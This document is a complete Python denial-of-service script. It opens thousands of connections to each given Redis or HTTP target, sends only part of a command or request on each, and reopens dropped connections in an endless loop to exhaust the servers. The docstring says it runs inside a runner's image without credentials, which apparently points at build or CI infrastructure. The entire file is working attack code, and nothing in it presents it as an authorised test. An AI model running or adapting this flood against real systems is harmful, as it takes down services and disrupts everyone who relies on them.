"""Holds as many half-sent commands and requests as it may: argv is host:port=half for each target, for ever.

Runs in the runner's image as `python -c`, without any credential. A connection that is closed is opened again.
"""

import resource
import socket
import sys
import time

EACH = 3_000
REDIS = b"*3\r\n$3\r\nSET\r\n$16000\r\n" + b"x" * 15_990
HTTP = b"POST /v1/builds/0 HTTP/1.1\r\nHost: x\r\nContent-Length: 16000\r\n\r\n" + b"x" * 15_000
HALVES = {"redis": REDIS, "http": HTTP}


def is_open(held: socket.socket) -> bool:
    """Whether the other side still listens."""
    try:
        return held.recv(1, socket.MSG_DONTWAIT | socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def hold(host: str, port: int, half: bytes, held: list[socket.socket]) -> list[socket.socket]:
    """Those that are open, and new ones up to `EACH`."""
    still = []
    for each in held:
        if is_open(each):
            still.append(each)
        else:
            each.close()
    while len(still) < EACH:
        try:
            made = socket.create_connection((host, port), timeout=0.5)
            made.setblocking(False)
            made.send(half)
        except OSError:
            break
        still.append(made)
    return still


def main(targets: list[str]) -> None:
    """Flood all targets in turn."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    held: dict[str, list[socket.socket]] = {target: [] for target in targets}
    while True:
        for target in targets:
            place, _, kind = target.partition("=")
            host, _, port = place.rpartition(":")
            held[target] = hold(host, int(port), HALVES[kind], held[target])
            sys.stdout.write(f"{target} {len(held[target])}\n")
            sys.stdout.flush()
        time.sleep(0.2)


if __name__ == "__main__":
    main(sys.argv[1:])
